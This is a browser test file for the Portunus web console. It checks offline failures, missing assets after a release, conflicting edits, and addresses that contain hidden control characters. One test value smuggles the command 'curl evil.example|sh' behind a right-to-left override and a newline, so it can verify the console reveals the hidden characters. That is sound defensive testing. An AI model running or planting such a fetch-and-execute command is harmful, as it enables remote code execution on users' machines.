// The console in Chromium when something is missing: the network, a file of an older release, a definition that somebody
// deleted, and when an address is none of its own. It says so, and throws nothing that nobody catches.
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { CHROMIUM } from '../../support/browser.ts';
import { settled } from '../../support/console/looks.ts';
import { asAdministrator } from '../../support/console/seeds.ts';
import { startWorld, type Visitor, type World } from '../../support/console/world.ts';
import { describeLongUnless, LONG } from '../../support/long.ts';
import { needing } from '../../support/programs.ts';

const { skip, note } = needing(CHROMIUM);

describeLongUnless(skip)(`faults that the console meets in Chromium${note}${LONG}`, () => {
  let world: World;
  let ada: Visitor;
  const thrown: string[] = [];
  const open = async (path: string) => {
    await ada.page.goto(`${world.url}/console${path}`);
    await settled(ada.page);
  };
  const stopped = async () => JSON.stringify(await asAdministrator(world.url, world.aws)('GET', '/stop'));

  beforeAll(async () => {
    world = await startWorld();
  });
  beforeEach(async () => {
    ada = await world.visitAs('Ada');
    ada.page.on('pageerror', (error) => thrown.push(error.message));
    ada.page.on('dialog', (dialog) => void dialog.accept());
  });
  afterEach(async () => {
    expect(thrown.splice(0)).toEqual([]);
    await ada.close();
  });
  afterAll(() => world.stop());

  it('fails at once while the browser is offline, and sends nothing later that was given up', async () => {
    await open('/stop?kind=connector&id=shop-people');
    await ada.page.getByLabel('Reason', { exact: true }).fill('INC-44');
    await ada.page.getByRole('button', { name: 'Stop…' }).click();
    await ada.context.setOffline(true);
    const dialog = ada.page.getByRole('dialog');
    await dialog.getByRole('button', { name: 'Stop now' }).click();
    await dialog.getByText('The service could not be reached').waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await ada.context.setOffline(false);
    await ada.page.evaluate(`dispatchEvent(new Event('online'))`);
    await open('/stop');
    expect(await stopped()).not.toContain('INC-44');
  });

  it('says that a file is gone after a newer release, where a click needs one', async () => {
    await open('/');
    await ada.page.route('**/console/assets/**', (route) => route.fulfill({ status: 404 }));
    await ada.page.getByRole('button', { name: /^Copy for .*: shop-people$/ }).click();
    await ada.page.getByText('A newer release may have been deployed').waitFor();
  });

  it('shows what an address hides, in the title and in the command to copy', async () => {
    await open(`/connectors/${encodeURIComponent('x\u202E\u0003\ncurl evil.example|sh')}`);
    await expect
      .poll(() => ada.page.getByRole('heading', { level: 1 }).innerText())
      .toContain('xU+202EU+0003U+000Acurl');
    await expect.poll(() => ada.page.title()).toBe('xU+202EU+0003U+000Acurl evil.example|sh · Portunus');
    const command = `portunus get connector $'x\\xe2\\x80\\xae\\x03\\x0acurl evil.example|sh'`;
    await ada.page.getByText(command).waitFor();
  });

  it('shows it in the way back to a page above, too', async () => {
    await open(`/issuers/${encodeURIComponent('x\u202Eslaitnederc')}/versions`);
    const trail = ada.page.getByRole('navigation', { name: 'Where you are' });
    expect(await trail.innerText()).toContain('xU+202Eslaitnederc');
    expect(await trail.innerText()).not.toContain('\u202E');
  });

  it('says why it can not show what somebody else saved, and shows it when asked again', async () => {
    await open('/connectors/shop-images/edit');
    await ada.page.getByLabel('description', { exact: true }).fill('Of Ada');
    await asAdministrator(world.url, world.aws)('PATCH', '/connectors/shop-images', { name: 'Of Otto' });
    const stored = '**/console/api/v1/connectors/shop-images';
    await ada.page.route(stored, (route) => (route.request().method() === 'GET' ? route.abort() : route.continue()));
    await ada.page.getByRole('button', { name: 'Save', exact: true }).click();
    await ada.page.getByText('The service could not be reached').first().waitFor();
    await ada.page.unroute(stored);
    await ada.page.getByRole('button', { name: 'Try again' }).first().click();
    await ada.page.getByText('Somebody else saved it meanwhile').first().waitFor();
  });
});
